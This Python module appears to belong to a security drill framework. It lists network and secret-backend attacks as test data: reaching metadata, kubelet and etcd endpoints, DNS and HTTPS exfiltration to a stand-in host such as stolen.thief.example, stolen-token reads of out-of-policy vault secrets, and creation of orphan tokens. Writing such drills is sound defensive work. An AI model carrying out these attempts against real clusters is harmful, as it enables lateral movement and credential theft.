"""Attacks over the network: whom a process can reach that it has no business with."""

from collections.abc import Sequence
from typing import Final

from bulkhead_demo.drill.model import EVERYBODY, Attack, Process

_TOKENS: Final = ("/var/run/bulkhead/credentials/token", "/loot/vault-credential/token")


def _connect(target: str, does: str, host: str, port: str, *, whose: Process | None = None) -> Attack:
    """Write down a connection to a target of the scene; `whose` is the process that listens there."""
    beside = "" if whose is None else f" | beside {whose}"
    return Attack(
        id=f"network.{target}",
        does=does,
        act="network.connect",
        arguments={"host": host, "port": port},
        thieves=EVERYBODY - {whose},
        permitted=f"reach {target}{beside}",
    )


def _metrics(does: str, port: str, marker: str, *, whose: Process) -> Attack:
    """Write down that the metrics of a process are read; a text in them tells them from another's."""
    name = whose.removeprefix("provider-")
    return Attack(
        id=f"network.{name}-metrics",
        does=does,
        act="network.read_page",
        arguments={
            "places": f"127.0.0.1:{port},{{{name}_ip}}:{port}",
            "path": "/metrics",
            "marker": marker,
        },
        thieves=EVERYBODY - {whose},
        permitted=f"beside {whose}",
    )


def _dns(target: str, does: str, server: str, name: str) -> Attack:
    return Attack(
        id=f"network.{target}",
        does=does,
        act="network.ask_name",
        arguments={"server": server, "name": name},
        permitted=f"reach {target}",
    )


def _ask(
    name: str,
    does: str,
    path: str,
    *,
    host: str = "{openbao}",
    method: str = "GET",
    body: str = "",
    permitted: str = "",
) -> Attack:
    arguments = {"host": host, "port": "8200", "path": path, "method": method, "body": body, "tokens": list(_TOKENS)}
    return Attack(id=f"backend.{name}", does=does, act="network.fetch", arguments=arguments, permitted=permitted)


NETWORK: Final[Sequence[Attack]] = (
    _connect("metadata", "reach the cloud's metadata server", "169.254.169.254", "80"),
    _connect("link-local", "reach another link-local address", "169.254.170.23", "80"),
    _connect("kubelet", "reach the kubelet", "{node_ip}", "{kubelet_port}"),
    _connect("kubelet-read-only", "reach the kubelet's port without authentication", "{node_ip}", "10255"),
    _connect("etcd", "reach etcd on the node", "{node_ip}", "2379"),
    _connect("ssh", "reach the node's own services", "{node_ip}", "22"),
    _connect("api-server", "reach the API server", "{api_host}", "{api_port}"),
    _connect("backend", "reach the vault provider's backend", "{openbao}", "8200"),
    _connect("other-backend", "reach a backend that is nobody's", "{other_backend}", "8200"),
    _connect("stranger", "reach another team's Pod", "{stranger}", "8080"),
    _connect("stranger-service", "reach another team's Service", "{stranger_service}", "8080"),
    _connect("outside", "send what it stole out by HTTPS", "{stranger}", "443"),
    _dns(
        "foreign-dns",
        "ask a name server of its own, in whose names it writes what it stole",
        "{stranger}",
        "stolen.thief.example",
    ),
    _dns("cluster-dns", "ask the cluster's name server", "{dns}", "kubernetes.default.svc.cluster.local"),
    _metrics("read the controller's metrics", "8080", "externalsecret_", whose=Process.CONTROLLER),
    _metrics("read the vault provider's metrics", "8103", "bulkhead_", whose=Process.VAULT),
    _connect(
        "controller-health",
        "reach the controller's health port",
        "{controller_ip}",
        "8082",
        whose=Process.CONTROLLER,
    ),
    _connect(
        "certcontroller-health",
        "reach the certcontroller's health port",
        "{certcontroller_ip}",
        "8082",
        whose=Process.CERTCONTROLLER,
    ),
    _connect(
        "webhook-port",
        "reach the webhook as if it were the API server",
        "{webhook_ip}",
        "10250",
        whose=Process.WEBHOOK,
    ),
    Attack(
        id="network.ask-kubelet",
        does="ask the kubelet for its Pods",
        act="api.call",
        arguments={"server": "{node_ip}:{kubelet_port}", "method": "GET", "path": "/pods"},
    ),
)

BACKENDS: Final[Sequence[Attack]] = (
    _ask(
        "read-policy-key",
        "read at the backend itself what the policy file allows",
        "/v1/secret/data/shop/database",
        permitted="credential vault",
    ),
    _ask("read-other-key", "read at the backend a key outside of the policy file", "/v1/secret/data/hr/payroll"),
    _ask("list-keys", "list the keys of the backend", "/v1/secret/metadata/hr/?list=true"),
    _ask(
        "write-key",
        "write at the backend",
        "/v1/secret/data/shop/drill",
        method="POST",
        body='{{"data": {{"drill": "drill"}}}}',
    ),
    _ask(
        "make-token",
        "make a token at the backend that outlives the theft",
        "/v1/auth/token/create-orphan",
        method="POST",
        body='{{"policies": ["default"], "ttl": "1m"}}',
    ),
    _ask("read-policies", "read the backend's own policies", "/v1/sys/policies/acl/{release}"),
    _ask("audit", "see where the backend keeps its audit log", "/v1/sys/audit"),
    _ask(
        "other-backend", "use the credential at another backend", "/v1/secret/data/hr/payroll", host="{other_backend}"
    ),
)
